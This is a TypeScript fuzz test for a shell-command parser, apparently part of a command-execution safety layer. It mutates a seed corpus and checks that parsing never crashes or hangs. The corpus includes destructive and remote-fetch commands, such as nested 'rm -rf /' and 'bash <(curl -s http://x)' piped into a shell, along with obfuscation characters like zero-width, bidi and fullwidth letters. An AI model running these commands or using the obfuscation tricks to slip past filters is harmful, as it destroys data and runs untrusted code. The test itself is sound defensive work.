import assert from 'node:assert/strict';
import { parseCommand } from '../../../src/core/exec/command-parse';
import { CommandRejected } from '../../../src/core/exec/command-types';

const CORPUS = [
  "r''m -Rf x", 'env sh -c "timeout 5 bash -c \'rm -rf /\'"', 'bash <(curl -s http://x)', 'sh -c "$(curl x)"',
  'cat <<EOF | sh\nrm -rf /\nEOF', 'find . -exec rm {} \\;', 'ls | xargs -0 rm', "echo $'\\x72m' `id` $((1+2)) ${a:-b}",
  'for f in *.ts; do wc -l "$f"; done', 'if a; then b; fi; case $x in a) c;; esac', 'f() { g; }; { a; } > f 2>&1',
  '[[ -f x && $(y) ]] || (( i++ ))', 'export A=$(id) B; a=(1 $(x))', 'git log --author=su | grep dig &',
];
// Characters the shell gives meaning to, plus look-alikes and invisibles the normaliser handles.
const ALPHABET = ['\'', '"', '`', '$', '(', ')', '{', '}', '[', ']', '\\', '|', '&', ';', '<', '>', '\n', ' ', '#', '*',
  '~', '=', '-', 'a', 'EOF', '<<', '$(', '${', "$'", '\u200b', 'ｒ', '\u202e', '\\x', '\0'];

/** Deterministic PRNG so a failure can be replayed. */
function rng(seed: number): () => number {
  let s = seed >>> 0;
  return () => ((s = (Math.imul(s ^ (s >>> 15), 0x2c1b3c6d) + 0x9e3779b9) >>> 0) / 2 ** 32);
}

function mutate(text: string, r: () => number): string {
  let t = text;
  const edits = 1 + Math.floor(r() * 6);
  for (let i = 0; i < edits; i++) {
    const at = Math.floor(r() * (t.length + 1));
    const op = r();
    if (op < 0.4) t = t.slice(0, at) + ALPHABET[Math.floor(r() * ALPHABET.length)] + t.slice(at);
    else if (op < 0.7) t = t.slice(0, at) + t.slice(at + 1 + Math.floor(r() * 3));
    else if (op < 0.85) t = t.slice(0, at) + t.slice(Math.floor(r() * t.length)); // splice a tail
    else t = t + ' ' + CORPUS[Math.floor(r() * CORPUS.length)];
  }
  return t;
}

describe('exec: shell parser — fuzz', () => {
  // Both are guards against blow-ups (exponential backtracking would take minutes), not speed goals
  // (those live in bench/exec-parse.mjs): the test's timeout is their only bound.
  it('never throws on 500 mutations (except CommandRejected for NUL)', async () => {
    const r = rng(20240605);
    let rejected = 0;
    for (let i = 0; i < 500; i++) {
      const input = mutate(CORPUS[i % CORPUS.length], r);
      try {
        const p = await parseCommand(input);
        assert.ok(Array.isArray(p.segments) && Array.isArray(p.problems));
        for (const s of p.segments) assert.ok(s.argv.every((w) => typeof w.text === 'string'));
      } catch (e) {
        assert.ok(e instanceof CommandRejected && input.includes('\0'), `input ${JSON.stringify(input)} threw ${String(e)}`);
        rejected++;
      }
    }
    assert.ok(rejected > 0, 'the alphabet includes NUL, so some inputs must be rejected');
  });

  it('handles hostile sizes and nesting in bounded time', async () => {
    for (const input of [
      '$('.repeat(3000), '"'.repeat(5000), "'".repeat(5000), '\\'.repeat(8000), '{ '.repeat(4000),
      'a | '.repeat(2000) + 'b', 'x=$(' .repeat(2000), `echo ${'`'.repeat(3000)}`, '<<EOF '.repeat(1000),
    ]) {
      const p = await parseCommand(input);
      assert.ok(Array.isArray(p.problems));
    }
  });
});
